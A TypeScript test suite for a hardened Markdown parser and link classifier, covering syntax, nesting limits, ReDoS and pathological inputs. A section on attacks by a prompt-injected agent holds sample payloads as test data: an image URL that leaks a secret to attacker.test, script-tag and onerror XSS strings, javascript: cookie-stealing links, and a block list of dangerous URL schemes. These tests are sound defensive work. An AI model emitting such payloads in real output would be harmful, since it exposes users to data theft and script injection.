import assert from 'node:assert/strict';
import { describe, it, test } from 'node:test';
import { check } from 'recheck';
import { MARKDOWN_PATTERNS, MAX_INPUT_CHARS, MAX_NESTING, classifyLink, parseMarkdown, type MdBlock, type MdInline } from './markdown.js';

/** The inlines of a text that parses to one paragraph. */
function inlines(text: string): readonly MdInline[] {
  const blocks = parseMarkdown(text);
  assert.equal(blocks.length, 1, JSON.stringify(blocks));
  const [p] = blocks;
  assert.ok(p?.type === 'paragraph', JSON.stringify(p));
  return p.children;
}

/** Every character of text a reader sees, in order (link and image targets excluded). */
function visibleText(blocks: readonly MdBlock[]): string {
  const parts: string[] = [];
  const inl = (xs: readonly MdInline[]) => {
    for (const x of xs) {
      switch (x.type) {
        case 'text':
        case 'inlineCode':
          parts.push(x.text);
          break;
        case 'strong':
        case 'emphasis':
        case 'strikethrough':
        case 'link':
          inl(x.children);
          break;
        case 'image':
          parts.push(x.alt);
          break;
        case 'autolink':
          parts.push(x.href);
          break;
        case 'break':
          parts.push('\n');
          break;
      }
    }
  };
  const blk = (bs: readonly MdBlock[]) => {
    for (const b of bs) {
      switch (b.type) {
        case 'paragraph':
        case 'heading':
          inl(b.children);
          break;
        case 'codeBlock':
          parts.push(b.text);
          break;
        case 'blockquote':
          blk(b.children);
          break;
        case 'bulletList':
        case 'orderedList':
          for (const item of b.items) blk(item);
          break;
        case 'table':
          for (const c of b.header) inl(c);
          for (const r of b.rows) for (const c of r) inl(c);
          break;
        case 'thematicBreak':
        case 'truncated':
          break;
      }
    }
  };
  blk(blocks);
  return parts.join('');
}

/** Deepest nesting of containers in the AST. */
function depthOf(blocks: readonly MdBlock[]): number {
  const inl = (xs: readonly MdInline[]): number =>
    Math.max(0, ...xs.map((x) => (x.type === 'strong' || x.type === 'emphasis' || x.type === 'strikethrough' || x.type === 'link' ? 1 + inl(x.children) : 0)));
  const blk = (bs: readonly MdBlock[]): number =>
    Math.max(
      0,
      ...bs.map((b) => {
        switch (b.type) {
          case 'blockquote':
            return 1 + blk(b.children);
          case 'bulletList':
          case 'orderedList':
            return 1 + Math.max(0, ...b.items.map(blk));
          case 'paragraph':
          case 'heading':
            return inl(b.children);
          case 'codeBlock':
          case 'table':
          case 'thematicBreak':
          case 'truncated':
            return 0;
        }
      }),
    );
  return blk(blocks);
}

void describe('blocks', () => {
  void it('headings, with closing hashes dropped but `C#` kept', () => {
    assert.deepEqual(parseMarkdown('# One\n###### Six ##\n####### seven\n## C#'), [
      { type: 'heading', level: 1, children: [{ type: 'text', text: 'One' }] },
      { type: 'heading', level: 6, children: [{ type: 'text', text: 'Six' }] },
      { type: 'paragraph', children: [{ type: 'text', text: '####### seven' }] },
      { type: 'heading', level: 2, children: [{ type: 'text', text: 'C#' }] },
    ]);
  });

  void it('paragraphs split on blank lines; soft breaks stay in the text, hard breaks are nodes', () => {
    assert.deepEqual(parseMarkdown('a\nb\n\nc  \nd\\\ne'), [
      { type: 'paragraph', children: [{ type: 'text', text: 'a\nb' }] },
      { type: 'paragraph', children: [{ type: 'text', text: 'c' }, { type: 'break' }, { type: 'text', text: 'd' }, { type: 'break' }, { type: 'text', text: 'e' }] },
    ]);
  });

  void it('fenced code with ``` and ~~~, language, indentation, unclosed fence', () => {
    assert.deepEqual(parseMarkdown('```ts extra\nconst a = `x`;\n\n*not emphasis*\n```\n  ~~~\n  two\n   three\n  ~~~~\n```\nopen'), [
      { type: 'codeBlock', lang: 'ts', text: 'const a = `x`;\n\n*not emphasis*' },
      { type: 'codeBlock', lang: null, text: 'two\n three' },
      { type: 'codeBlock', lang: null, text: 'open' },
    ]);
    // A backtick in the info string makes it inline code, not a fence.
    assert.deepEqual(parseMarkdown('```a`b```'), [{ type: 'paragraph', children: [{ type: 'inlineCode', text: 'a`b' }] }]);
  });

  void it('block quotes nest and take lazy continuation lines', () => {
    assert.deepEqual(parseMarkdown('> a\nb\n> > c\n\nafter'), [
      {
        type: 'blockquote',
        children: [
          { type: 'paragraph', children: [{ type: 'text', text: 'a\nb' }] },
          { type: 'blockquote', children: [{ type: 'paragraph', children: [{ type: 'text', text: 'c' }] }] },
        ],
      },
      { type: 'paragraph', children: [{ type: 'text', text: 'after' }] },
    ]);
  });

  void it('bullet lists nest by indentation (a tab is 4 columns); ordered lists keep their start', () => {
    const p = (text: string): MdBlock => ({ type: 'paragraph', children: [{ type: 'text', text }] });
    assert.deepEqual(parseMarkdown('- a\n- b\n  - c\n\t- tab\n\n7. x\n8) y\n9) z'), [
      { type: 'bulletList', items: [[p('a')], [p('b'), { type: 'bulletList', items: [[p('c'), { type: 'bulletList', items: [[p('tab')]] }]] }]] },
      { type: 'orderedList', start: 7, items: [[p('x')]] },
      { type: 'orderedList', start: 8, items: [[p('y')], [p('z')]] },
    ]);
  });

  void it('thematic breaks, including ones written with spaces', () => {
    assert.deepEqual(parseMarkdown('---\n* * *\n_____\n--'), [{ type: 'thematicBreak' }, { type: 'thematicBreak' }, { type: 'thematicBreak' }, { type: 'paragraph', children: [{ type: 'text', text: '--' }] }]);
  });

  void it('GFM tables: alignments, escaped pipes, short rows kept short, long rows cut', () => {
    assert.deepEqual(parseMarkdown('| a | b | c | d |\n|---|:--|:-:|--:|\n| 1 | x\\|y | 3 | 4 | 5 |\n| only |\n\nafter'), [
      {
        type: 'table',
        align: [null, 'left', 'center', 'right'],
        header: [[{ type: 'text', text: 'a' }], [{ type: 'text', text: 'b' }], [{ type: 'text', text: 'c' }], [{ type: 'text', text: 'd' }]],
        rows: [[[{ type: 'text', text: '1' }], [{ type: 'text', text: 'x|y' }], [{ type: 'text', text: '3' }], [{ type: 'text', text: '4' }]], [[{ type: 'text', text: 'only' }]]],
      },
      { type: 'paragraph', children: [{ type: 'text', text: 'after' }] },
    ]);
    // A delimiter row that does not match the header's width is no table.
    assert.equal(parseMarkdown('a | b\n--|--|--')[0]?.type, 'paragraph');
  });
});

void describe('inlines', () => {
  void it('strong, emphasis, strikethrough, code; snake_case is not emphasis', () => {
    assert.deepEqual(inlines('**b** *e* _u_ ~~s~~ ~x~ `c` snake_case_name'), [
      { type: 'strong', children: [{ type: 'text', text: 'b' }] },
      { type: 'text', text: ' ' },
      { type: 'emphasis', children: [{ type: 'text', text: 'e' }] },
      { type: 'text', text: ' ' },
      { type: 'emphasis', children: [{ type: 'text', text: 'u' }] },
      { type: 'text', text: ' ' },
      { type: 'strikethrough', children: [{ type: 'text', text: 's' }] },
      { type: 'text', text: ' ~x~ ' },
      { type: 'inlineCode', text: 'c' },
      { type: 'text', text: ' snake_case_name' },
    ]);
    assert.deepEqual(inlines('***both***'), [{ type: 'emphasis', children: [{ type: 'strong', children: [{ type: 'text', text: 'both' }] }] }]);
  });

  void it('code spans: matched run lengths, no markup inside, unmatched runs literal', () => {
    assert.deepEqual(inlines('`` a ` b `` ` *x* ` ```x'), [
      { type: 'inlineCode', text: 'a ` b' },
      { type: 'text', text: ' ' },
      { type: 'inlineCode', text: '*x*' },
      { type: 'text', text: ' ```x' },
    ]);
  });

  void it('backslash escapes make punctuation literal', () => {
    assert.deepEqual(inlines('\\*a\\* \\[b\\](c) \\<d> \\q'), [{ type: 'text', text: '*a* [b](c) <d> \\q' }]);
  });

  void it('inline links keep their href; titles are dropped; parentheses balance', () => {
    assert.deepEqual(inlines('[docs](https://d.test/a_(b) "Title") [x](<https://s.test/a b>)'), [
      { type: 'link', href: 'https://d.test/a_(b)', children: [{ type: 'text', text: 'docs' }] },
      { type: 'text', text: ' ' },
      { type: 'link', href: 'https://s.test/a b', children: [{ type: 'text', text: 'x' }] },
    ]);
  });

  void it('autolinks: <scheme:…>, <email>, and bare http(s) URLs without trailing punctuation', () => {
    assert.deepEqual(inlines('<https://a.test/x> <me@b.test> see https://c.test/p?q=1. (https://d.test/w_(x)).'), [
      { type: 'autolink', href: 'https://a.test/x' },
      { type: 'text', text: ' ' },
      { type: 'autolink', href: 'mailto:me@b.test' },
      { type: 'text', text: ' see ' },
      { type: 'autolink', href: 'https://c.test/p?q=1' },
      { type: 'text', text: '. (' },
      { type: 'autolink', href: 'https://d.test/w_(x)' },
      { type: 'text', text: ').' },
    ]);
    assert.deepEqual(inlines('xhttps://mid.word ftp://no.test'), [{ type: 'text', text: 'xhttps://mid.word ftp://no.test' }]);
  });
});

void describe('attacks from a prompt-injected agent', () => {
  void it('an exfiltrating image is an image node with its full target (the view never loads it)', () => {
    assert.deepEqual(inlines('![x](https://attacker.test/leak?d=SECRET)'), [{ type: 'image', alt: 'x', src: 'https://attacker.test/leak?d=SECRET' }]);
  });

  void it('link text that looks like a URL keeps the real href, and is not a second link', () => {
    assert.deepEqual(inlines('[https://good.test](https://evil.test)'), [{ type: 'link', href: 'https://evil.test', children: [{ type: 'text', text: 'https://good.test' }] }]);
    assert.deepEqual(inlines('[<https://good.test>](https://evil.test)'), [{ type: 'link', href: 'https://evil.test', children: [{ type: 'text', text: 'https://good.test' }] }]);
  });

  void it('reference-style links are shown literally: a definition cannot hide where a link goes', () => {
    assert.deepEqual(parseMarkdown('[a][r] and [r]\n\n[r]: https://ref.test/x'), [
      { type: 'paragraph', children: [{ type: 'text', text: '[a][r] and [r]' }] },
      { type: 'paragraph', children: [{ type: 'text', text: '[r]: ' }, { type: 'autolink', href: 'https://ref.test/x' }] },
    ]);
  });

  void it('raw HTML stays text, never markup', () => {
    const html = '<img src=x onerror=alert(1)> <script>alert(1)</script> <iframe src=x></iframe> <a href=x>y</a> <style>*{}</style> &lt;b&gt;';
    assert.deepEqual(inlines(html), [{ type: 'text', text: html }]);
    // A URL inside markup is still only a URL: an autolink shown in full, the markup around it text.
    assert.deepEqual(inlines('<a href="https://e.test/x">y</a>'), [{ type: 'text', text: '<a href="' }, { type: 'autolink', href: 'https://e.test/x' }, { type: 'text', text: '">y</a>' }]);
    // An HTML block is a paragraph of text too.
    assert.deepEqual(parseMarkdown('<div>\n<b>x</b>\n</div>'), [{ type: 'paragraph', children: [{ type: 'text', text: '<div>\n<b>x</b>\n</div>' }] }]);
  });

  void it('a javascript: link parses as a link and is blocked when classified', () => {
    const [link] = inlines('[click](javascript:alert(document.cookie))');
    assert.deepEqual(link, { type: 'link', href: 'javascript:alert(document.cookie)', children: [{ type: 'text', text: 'click' }] });
    assert.equal(classifyLink(link.href).kind, 'blocked');
    const [auto] = inlines('<javascript:alert(1)>');
    assert.ok(auto?.type === 'autolink');
    assert.equal(classifyLink(auto.href).kind, 'blocked');
  });

  void it('link text may contain images; the image stays an image node inside the link', () => {
    assert.deepEqual(inlines('[![logo](https://img.test/l.png?d=S) *Docs*](https://docs.test)'), [
      {
        type: 'link',
        href: 'https://docs.test',
        children: [{ type: 'image', alt: 'logo', src: 'https://img.test/l.png?d=S' }, { type: 'text', text: ' ' }, { type: 'emphasis', children: [{ type: 'text', text: 'Docs' }] }],
      },
    ]);
  });

  void it('a link inside link text wins; the outer brackets stay literal', () => {
    assert.deepEqual(inlines('[a [b](https://in.test) c](https://out.test)'), [
      { type: 'text', text: '[a ' },
      { type: 'link', href: 'https://in.test', children: [{ type: 'text', text: 'b' }] },
      { type: 'text', text: ' c](' },
      { type: 'autolink', href: 'https://out.test' },
      { type: 'text', text: ')' },
    ]);
  });

  void it('image alt text is plain text, with nested markup flattened', () => {
    assert.deepEqual(inlines('![a *b* [c](https://x.test) `d`](https://img.test)'), [{ type: 'image', alt: 'a b c d', src: 'https://img.test' }]);
  });
});

void describe('classifyLink', () => {
  const cases: readonly [string, 'web' | 'mail' | 'blocked'][] = [
    ['https://example.test/a?b=c#d', 'web'],
    ['http://example.test', 'web'],
    ['HTTPS://EXAMPLE.TEST', 'web'],
    ['mailto:someone@example.test?subject=hi', 'mail'],
    ['javascript:alert(1)', 'blocked'],
    ['JaVaScRiPt:alert(1)', 'blocked'],
    ['java\tscript:alert(1)', 'blocked'],
    ['  javascript:alert(1)', 'blocked'],
    ['vbscript:msgbox(1)', 'blocked'],
    ['data:text/html,<script>alert(1)</script>', 'blocked'],
    ['file:///etc/passwd', 'blocked'],
    ['blob:https://example.test/uuid', 'blocked'],
    ['ftp://example.test/x', 'blocked'],
    ['/relative/path', 'blocked'],
    ['relative.html', 'blocked'],
    ['#fragment', 'blocked'],
    ['//evil.test/x', 'blocked'],
    ['\\\\evil.test\\share', 'blocked'],
    ['https://user:pass@evil.test/', 'blocked'],
    ['https://good.test@evil.test/', 'blocked'],
    ['', 'blocked'],
  ];
  for (const [href, kind] of cases) {
    void it(`${JSON.stringify(href)} is ${kind}`, () => {
      const c = classifyLink(href);
      assert.equal(c.kind, kind, JSON.stringify(c));
      if (c.kind === 'blocked') assert.ok(c.reason.length > 10);
    });
  }

  void it('answers the normalized URL the browser would open', () => {
    assert.deepEqual(classifyLink('HTTPS://Example.TEST'), { kind: 'web', url: 'https://example.test/' });
    // An IDN host is shown as the punycode the request really goes to.
    assert.deepEqual(classifyLink('https://exаmple.test/'), { kind: 'web', url: 'https://xn--exmple-4nf.test/' });
  });
});

void describe('resource limits', () => {
  void it('input past the limit is cut and a truncated block says how much', () => {
    const blocks = parseMarkdown('a'.repeat(MAX_INPUT_CHARS + 123));
    assert.deepEqual(blocks.at(-1), { type: 'truncated', omittedChars: 123 });
    assert.equal(visibleText(blocks).length, MAX_INPUT_CHARS);
    // The cut never splits a surrogate pair.
    const emoji = parseMarkdown('a'.repeat(MAX_INPUT_CHARS - 1) + '😀b');
    assert.deepEqual(emoji.at(-1), { type: 'truncated', omittedChars: 3 });
    assert.equal(parseMarkdown('a'.repeat(MAX_INPUT_CHARS)).at(-1)?.type, 'paragraph');
  });

  void it('quotes nested deeper than the cap become text', () => {
    const blocks = parseMarkdown('>'.repeat(40) + ' deep');
    assert.equal(depthOf(blocks), MAX_NESTING);
    assert.ok(visibleText(blocks).endsWith('>'.repeat(40 - MAX_NESTING) + ' deep'));
  });

  void it('lists nested deeper than the cap become text', () => {
    const text = Array.from({ length: 40 }, (_, i) => `${'  '.repeat(i)}- item${i}`).join('\n');
    const blocks = parseMarkdown(text);
    assert.equal(depthOf(blocks), MAX_NESTING);
    assert.ok(visibleText(blocks).includes('item39'));
  });

  void it('emphasis nested deeper than the cap becomes text', () => {
    const blocks = parseMarkdown('*a '.repeat(1000) + 'core' + ' a*'.repeat(1000));
    assert.equal(depthOf(blocks), MAX_NESTING);
    assert.ok(visibleText(blocks).includes('*a *a core a* a*'));
  });
});

void describe('ReDoS: recheck proves every pattern in markdown.ts safe', () => {
  void it('has patterns to check', () => assert.ok(MARKDOWN_PATTERNS.length >= 8));
  for (const re of MARKDOWN_PATTERNS) {
    void it(`safe: /${re.source}/${re.flags}`, async () => {
      // Every pattern is anchored with ^ and run with exec/test once per line or cell, never scanning.
      assert.ok(re.source.startsWith('^'));
      const r = await check(re.source, re.flags, { timeout: 30_000 });
      assert.equal(r.status, 'safe', r.status === 'vulnerable' ? `attack: ${r.attack.pattern}` : r.status);
    });
  }
});

const N = 100_000;
/** Pathological inputs, and what must survive in the output. */
const PATHOLOGICAL: Readonly<Record<string, { readonly input: string; readonly check: (blocks: readonly MdBlock[]) => void }>> = {
  '100,000 [': { input: '['.repeat(N), check: (b) => assert.equal(visibleText(b), '['.repeat(N)) },
  '100,000 ![': { input: '!['.repeat(N / 2), check: (b) => assert.equal(visibleText(b), '!['.repeat(N / 2)) },
  '100,000 * after text': { input: 'a' + '*'.repeat(N), check: (b) => assert.equal(visibleText(b), 'a' + '*'.repeat(N)) },
  '100,000 * alone (a thematic break)': { input: '*'.repeat(N), check: (b) => assert.deepEqual(b, [{ type: 'thematicBreak' }]) },
  '100,000 ` after text': { input: 'a' + '`'.repeat(N), check: (b) => assert.equal(visibleText(b), 'a' + '`'.repeat(N)) },
  '100,000 ` alone (an unclosed fence)': { input: '`'.repeat(N), check: (b) => assert.deepEqual(b, [{ type: 'codeBlock', lang: null, text: '' }]) },
  'backtick runs of every length, none closed': {
    input: Array.from({ length: 440 }, (_, i) => 'x' + '`'.repeat(i + 1)).join(''),
    check: (b) => assert.equal(visibleText(b).length, 440 + (440 * 441) / 2),
  },
  '100,000 >': { input: '>'.repeat(N), check: (b) => assert.ok(visibleText(b).startsWith('>'.repeat(N - MAX_NESTING))) },
  '100,000 <': { input: '<'.repeat(N), check: (b) => assert.equal(visibleText(b), '<'.repeat(N)) },
  '100,000 \\': { input: '\\'.repeat(N), check: (b) => assert.equal(visibleText(b), '\\'.repeat(N / 2)) },
  'nested brackets': { input: '['.repeat(N / 2) + ']'.repeat(N / 2), check: (b) => assert.equal(visibleText(b).length, N) },
  'nested brackets closing into links': {
    input: '['.repeat(N / 4) + 'x](https://a.test)'.repeat(N / 40),
    check: (b) => assert.ok(visibleText(b).startsWith('['.repeat(N / 4 - 1) + 'x')),
  },
  '`](` that never closes': { input: '[a]('.repeat(N / 4), check: (b) => assert.equal(visibleText(b), '[a]('.repeat(N / 4)) },
  'long unclosed destinations': {
    input: ('[a](' + 'x'.repeat(8000) + ' ').repeat(20),
    check: (b) => assert.ok(visibleText(b).startsWith('[a](xxx')),
  },
  'alternating *a': { input: '*a'.repeat(N / 2), check: (b) => assert.ok(visibleText(b).includes('aaaa')) },
  'nested emphasis 25,000 deep': { input: '*a '.repeat(N / 4) + 'a* '.repeat(N / 4), check: (b) => assert.equal(depthOf(b), MAX_NESTING) },
  'nested underscores': { input: '_a '.repeat(N / 4) + 'a_ '.repeat(N / 4), check: (b) => assert.equal(depthOf(b), MAX_NESTING) },
  'tildes': { input: '~~a'.repeat(N / 3), check: (b) => assert.ok(visibleText(b).includes('a')) },
  'delimiter soup': { input: '*_[`<~!]('.repeat(N / 9), check: (b) => assert.ok(visibleText(b).length > N / 2) },
  'closing parens after a URL': { input: 'https://x.test' + ')'.repeat(N), check: (b) => assert.equal(visibleText(b), 'https://x.test' + ')'.repeat(N)) },
  'wide table header': { input: '|'.repeat(N) + '\n' + '-|'.repeat(100), check: (b) => assert.equal(b[0]?.type, 'paragraph') },
  'table with 50,000 one-cell rows': { input: 'a|b\n-|-\n' + 'x\n'.repeat(N / 2), check: (b) => assert.ok(b[0]?.type === 'table' && b[0].rows.length === N / 2) },
  'list nested 2,000 deep': {
    input: Array.from({ length: 2000 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n'),
    check: (b) => assert.equal(depthOf(b), MAX_NESTING),
  },
  '25,000 hard breaks': { input: 'x  \n'.repeat(N / 4) + 'b', check: (b) => assert.equal(visibleText(b), 'x\n'.repeat(N / 4) + 'b') },
  '100,000 blank lines': { input: 'a' + '\n'.repeat(N) + 'b', check: (b) => assert.equal(b.length, 2) },
};

void describe('pathological inputs parse in linear time and keep their text', () => {
  for (const [name, { input, check: expect }] of Object.entries(PATHOLOGICAL)) {
    void it(name, () => {
      const t0 = performance.now();
      const blocks = parseMarkdown(input);
      const ms = performance.now() - t0;
      expect(blocks);
      // Generous: these take tens of ms; quadratic behaviour on 100 KB takes many seconds.
      assert.ok(ms < 2000, `${name}: ${ms.toFixed(0)} ms`);
    });
  }
});

test('every string parses without throwing, including lone surrogates and NUL', () => {
  for (const s of ['', ' ', '\n\n', '\u0000', '\ud800', '[\ud800](\udc00)', '*\u00a0*', '`\r`', '> \t- 1. ```', '|\n|']) {
    assert.ok(Array.isArray(parseMarkdown(s)));
  }
  assert.deepEqual(parseMarkdown('   \n\t\n'), []);
});
